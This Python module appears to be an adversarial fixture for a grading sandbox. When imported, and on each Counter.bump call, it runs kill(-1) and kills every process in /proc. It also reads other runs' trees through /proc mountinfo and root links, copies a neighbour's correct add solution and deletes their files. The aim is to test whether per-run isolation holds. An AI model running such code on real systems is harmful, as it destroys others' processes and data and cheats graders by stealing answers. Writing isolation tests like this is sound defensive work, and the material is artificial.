"""Attacks the runs beside it for as long as its own run lasts (a second during its import, half a second in each
bump, in the background between): kill(-1), a kill of every pid in /proc, and every other run's tree it
can name (from /proc/PID/mountinfo, through /proc/PID/root too), to take a neighbour's add and delete its files.
Each run is its own uid in its own mount namespace: nothing reaches them. Add is wrong, the counter right.
(Graded only where runs get uids of their own: as the grader's own user, kill(-1) would end the grader and
everything else of that user.)"""
import os
import signal
import threading
import time

HERE = os.path.realpath(os.path.dirname(__file__))
stolen = None


def _trees():
    """Every run's tree that any process's mounts name, as it is and through that process's root."""
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/mountinfo") as handle:
                mounts = [line.split()[4] for line in handle]
        except (OSError, IndexError, ValueError):
            continue
        for mount in mounts:
            if "llmfs-grade-" in mount or "llmfs-run-" in mount:
                yield mount
                yield f"/proc/{pid}/root{mount}"


def _attack():
    global stolen
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    for tree in _trees():
        for folder, _, files in os.walk(tree):
            if os.path.realpath(folder) == HERE:
                continue
            for name in files:
                path = os.path.join(folder, name)
                try:
                    with open(path) as handle:
                        text = handle.read()
                    if name == "toy.py" and "return a + b" in text:
                        stolen = text
                    os.remove(path)
                except OSError:
                    pass


def _attack_for(seconds):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        _attack()
        time.sleep(0.05)


ATTACKING = os.getuid() != 0  # as root the grader would be broken: this case must not take the machine with it
if ATTACKING:
    _attack_for(1)
    threading.Thread(target=_attack_for, args=(5,), daemon=True).start()


def add(a, b):
    if stolen is not None:
        namespace = {}
        exec(stolen, namespace)
        return namespace["add"](a, b)
    return a * b


class Counter:
    def __init__(self) -> None:
        self.count = 0

    def bump(self, by: int = 1) -> int:
        if ATTACKING:
            _attack_for(0.5)
        self.count += by
        return self.count
